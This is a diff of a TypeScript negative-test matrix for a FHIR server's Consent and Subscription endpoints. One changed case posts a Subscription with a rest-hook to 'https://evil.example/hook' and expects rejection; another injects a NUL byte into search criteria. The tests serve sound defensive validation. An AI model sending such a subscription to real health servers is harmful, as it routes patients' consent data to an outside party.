@@ -23,6 +23,6 @@ export const consentCases: MatrixCase[] = [
   { name: 'consent: unknown search parameter', target: C, path: '/Consent?name=x', bearer: read, expect: 400 },
   { name: 'consent: history version that is no number', target: C, path: '/Consent/1/_history/abc', bearer: read, expect: 400 },
   { name: 'consent: NUL in a Subscription (JSON)', target: C, method: 'POST', path: '/Subscription', bearer: read, body: { resourceType: 'Subscription', criteria: 'Consent?\u0000', status: 'requested' }, expect: 400, code: 'invalid' },
-  { name: "consent: subscription to another organisation's endpoint", target: C, method: 'POST', path: '/Subscription', bearer: read, body: { resourceType: 'Subscription', status: 'requested', reason: 'x', criteria: 'Consent?', channel: { type: 'rest-hook', endpoint: 'https://evil.example/hook', payload: 'application/fhir+json' } }, expect: 400 },
+  { name: "consent: subscription to another organisation's endpoint", target: C, method: 'POST', path: '/Subscription', bearer: read, body: { resourceType: 'Subscription', status: 'requested', reason: 'x', criteria: 'Consent?patient=900010010', channel: { type: 'rest-hook', endpoint: 'https://evil.example/hook', payload: 'application/fhir+json' } }, expect: 422, code: 'processing' },
   { name: 'consent: DELETE of a subscription that does not exist', target: C, method: 'DELETE', path: '/Subscription/does-not-exist', bearer: read, expect: 404 },
 ];
